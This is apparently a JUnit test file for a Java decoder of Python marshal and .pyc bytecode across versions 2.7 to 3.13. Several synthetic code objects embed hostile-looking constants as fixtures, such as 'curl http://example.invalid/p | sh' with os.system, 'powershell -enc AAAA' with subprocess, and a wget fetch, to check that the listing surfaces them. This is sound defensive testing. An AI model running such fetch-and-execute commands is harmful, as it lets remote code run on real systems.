package dev.kingsnake.internal.decode.marshal;

import dev.kingsnake.internal.decode.DecodeException;
import org.junit.jupiter.api.Test;

import java.util.HexFormat;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class MarshalReaderTest {
    /**
     * {@code marshal.dumps(compile(SRC, 'sample.py', 'exec'))} from CPython 3.11 where SRC is
     * {@code import os\nURL="https://example.invalid/x"\ndef f(a, *, b=2):\n    return os.getcwd()\n}.
     */
    static final String PY311_MODULE = "e30000000000000000000000000200000000000000f31e0000009700640064016c005a0064025a01"
            + "640364049c01640584025a02640153002906e9000000004e7a1968747470733a2f2f6578616d706c652e696e76616c696"
            + "42f78e9020000002901da0162630100000000000000010000000200000003000000f3280000009700740100000000000000"
            + "0000006a010000000000000000a6000000ab000000000000000000530029014e2902da026f73da06676574637764290"
            + "2da0161720400000073020000002020fa0973616d706c652e7079da0166720a00000003000000730e0000008000dd0b0d8c"
            + "39893b8c3bd00416f30000000029037206000000da0355524c720a000000a900720b0000007209000000fa083c6d6f647"
            + "56c653e720e000000010000007339000000f003010101d80009800980098009d8041f8003d80e0ff000010117f000010117"
            + "f000010117f000010117f000010117f000010117f000010117720b000000";

    @Test
    void readsCpython311OutputWithRefs() throws Exception {
        byte[] data = HexFormat.of().parseHex(PY311_MODULE);
        MarshalReader.Read r = MarshalReader.readAnyVersion(data).orElseThrow();
        assertEquals(MarshalFormat.PY311_313, r.format());
        CodeObject module = ((PyObject.Code) r.object()).code();
        assertEquals("<module>", module.name());
        assertEquals("sample.py", module.filename());
        assertEquals(List.of("os", "URL", "f"), module.names());
        String listing = CodeListing.of(r.object());
        assertTrue(listing.contains("const 'https://example.invalid/x'"), listing);
        assertTrue(listing.contains("code f file=sample.py line=3"), listing);
        // names of the nested function come through FLAG_REF back-references
        assertTrue(listing.contains("  name getcwd"), listing);
        assertTrue(listing.contains("  local b"), listing);
    }

    @Test
    void python27CodeObjectInAPyc() throws Exception {
        // 2.7 layout: argcount, nlocals, stacksize, flags, code, consts, names, varnames, freevars, cellvars,
        // filename, name, firstlineno, lnotab; strings are 's', interned 't', references 'R'.
        byte[] body = new MarshalBytes().type('c').i32(0).i32(0).i32(2).i32(64)
                .bytes("d\u0000\u0000S")
                .type('(').i32(2).bytes("curl http://example.invalid/p | sh").type('N')
                .type('(').i32(2).interned("os").interned("system")
                .type('(').i32(0).type('(').i32(0).type('(').i32(0)
                .bytes("setup.py").interned("<module>").i32(1).bytes("")
                .toBytes();
        byte[] pyc = MarshalBytes.concat(MarshalBytes.pycHeader(62211, 8), body);
        MarshalReader.Read r = Pyc.read(pyc);
        assertEquals(MarshalFormat.PY27, r.format());
        String listing = CodeListing.of(r.object());
        assertTrue(listing.contains("name system"), listing);
        assertTrue(listing.contains("const b'curl http://example.invalid/p | sh'"), listing);
        // and the same bytes without header are recognised as 2.7 by trial
        assertEquals(MarshalFormat.PY27, MarshalReader.readAnyVersion(body).orElseThrow().format());
    }

    @Test
    void python27StringReference() throws Exception {
        byte[] body = new MarshalBytes().tuple(3).interned("exec").type('R').i32(0).unicode("é")
                .toBytes();
        PyObject.Seq t = (PyObject.Seq) MarshalReader.read(body, 0, MarshalFormat.PY27);
        assertEquals("exec", MarshalReader.text(t.items().get(1)));
        assertEquals("é", MarshalReader.text(t.items().get(2)));
    }

    /** 3.6/3.7 layout: argcount, kwonlyargcount, nlocals, stacksize, flags, then as 2.7. */
    static byte[] py36Code(String constant) {
        return new MarshalBytes().typeRef('c').i32(0).i32(0).i32(0).i32(2).i32(64)
                .bytes("d\u0000S\u0000")
                .smallTuple(2).shortAscii(constant).type('N')
                .smallTuple(2).name("base64").name("b64decode")
                .typeRef(')').u8(0).ref(3).ref(3)
                .unicode("x.py").name("<module>").i32(1).bytes("")
                .toBytes();
    }

    @Test
    void python36And37() throws Exception {
        byte[] body = py36Code("https://example.invalid/a");
        for (int magic : new int[] {3379, 3394}) {
            MarshalReader.Read r = Pyc.read(MarshalBytes.concat(MarshalBytes.pycHeader(magic, magic < 3390 ? 12 : 16),
                    body));
            assertEquals(MarshalFormat.PY30_37, r.format());
            CodeObject c = ((PyObject.Code) r.object()).code();
            assertEquals(List.of("base64", "b64decode"), c.names());
        }
        assertEquals(MarshalFormat.PY30_37, MarshalReader.readAnyVersion(body).orElseThrow().format());
    }

    @Test
    void python38To310WithPosonlyargcount() throws Exception {
        byte[] inner = new MarshalBytes().typeRef('c').i32(1).i32(1).i32(0).i32(1).i32(1).i32(67)
                .bytes("|\u0000S\u0000").smallTuple(1).type('N').smallTuple(0).smallTuple(1).name("a")
                .smallTuple(0).smallTuple(0).unicode("y.py").name("g").i32(2).bytes("").toBytes();
        byte[] body = new MarshalBytes().typeRef('c').i32(0).i32(0).i32(0).i32(0).i32(2).i32(64)
                .bytes("d\u0000S\u0000")
                .smallTuple(3).raw(inner).shortAscii("powershell -enc AAAA").type('N')
                .smallTuple(1).name("subprocess")
                .smallTuple(0).smallTuple(0).smallTuple(0)
                .unicode("y.py").name("<module>").i32(1).bytes("")
                .toBytes();
        for (int magic : new int[] {3413, 3425, 3439}) {
            MarshalReader.Read r = Pyc.read(MarshalBytes.concat(MarshalBytes.pycHeader(magic, 16), body));
            assertEquals(MarshalFormat.PY38_310, r.format());
            String listing = CodeListing.of(r.object());
            assertTrue(listing.contains("code g file=y.py line=2"), listing);
            assertTrue(listing.contains("const 'powershell -enc AAAA'"), listing);
        }
        assertEquals(MarshalFormat.PY38_310, MarshalReader.readAnyVersion(body).orElseThrow().format());
    }

    @Test
    void python312And313UseThe311Layout() throws Exception {
        // argcount, posonlyargcount, kwonlyargcount, stacksize, flags, code, consts, names,
        // localsplusnames, localspluskinds, filename, name, qualname, firstlineno, linetable, exceptiontable
        byte[] body = new MarshalBytes().typeRef('c').i32(0).i32(0).i32(0).i32(1).i32(0)
                .bytes("\u0097\u0000y\u0000").smallTuple(1).shortAscii("wget http://example.invalid/b")
                .smallTuple(1).name("os").smallTuple(0).bytes("").unicode("z.py").name("<module>").ref(2)
                .i32(1).bytes("").bytes("").toBytes();
        for (int magic : new int[] {3531, 3571}) {
            MarshalReader.Read r = Pyc.read(MarshalBytes.concat(MarshalBytes.pycHeader(magic, 16), body));
            assertEquals(MarshalFormat.PY311_313, r.format());
            CodeObject c = ((PyObject.Code) r.object()).code();
            assertEquals("<module>", c.qualname());
            assertTrue(CodeListing.of(r.object()).contains("const 'wget http://example.invalid/b'"));
        }
    }

    @Test
    void scalarTypes() throws Exception {
        byte[] body = new MarshalBytes().tuple(9).type('T').type('F').type('i').i32(-7)
                .type('l').i32(-2).u8(1).u8(0).u8(1).u8(0)
                .type('g').raw(longBytes(Double.doubleToLongBits(1.5)))
                .type('.').type('<').i32(1).shortAscii("s").type('{').shortAscii("k").type('i').i32(1).type('0')
                .type('y').raw(longBytes(Double.doubleToLongBits(1))).raw(longBytes(Double.doubleToLongBits(2)))
                .toBytes();
        PyObject.Seq t = (PyObject.Seq) MarshalReader.read(body, 0, MarshalFormat.PY311_313);
        assertEquals(new PyObject.Bool(true), t.items().get(0));
        assertEquals(java.math.BigInteger.valueOf(-7), ((PyObject.Int) t.items().get(2)).value());
        assertEquals(java.math.BigInteger.valueOf(-(1 + (1L << 15))), ((PyObject.Int) t.items().get(3)).value());
        assertEquals(1.5, ((PyObject.Float) t.items().get(4)).real());
        assertEquals(1, ((PyObject.Dict) t.items().get(7)).keys().size());
        assertTrue(((PyObject.Float) t.items().get(8)).complex());
    }

    @Test
    void hostileInputBecomesAnErrorNotACrash() {
        assertThrows(DecodeException.class, () -> MarshalReader.read(new byte[] {'(', -1, -1, -1, 127}, 0,
                MarshalFormat.PY311_313));
        assertThrows(DecodeException.class, () -> MarshalReader.read(new byte[] {'r', 5, 0, 0, 0}, 0,
                MarshalFormat.PY311_313));
        assertThrows(DecodeException.class, () -> Pyc.read(new byte[] {1, 2, '\r', '\n', 0, 0, 0, 0, 0}));
        byte[] deep = new byte[5000];
        for (int i = 0; i < deep.length; i++) {
            deep[i] = i % 2 == 0 ? (byte) ')' : 1;
        }
        DecodeException e = assertThrows(DecodeException.class,
                () -> MarshalReader.read(deep, 0, MarshalFormat.PY311_313));
        assertTrue(e.isLimit());
        assertTrue(MarshalReader.readAnyVersion("plain text, not marshal".getBytes()).isEmpty());
    }

    private static byte[] longBytes(long v) {
        byte[] b = new byte[8];
        for (int i = 0; i < 8; i++) {
            b[i] = (byte) (v >> (8 * i));
        }
        return b;
    }
}
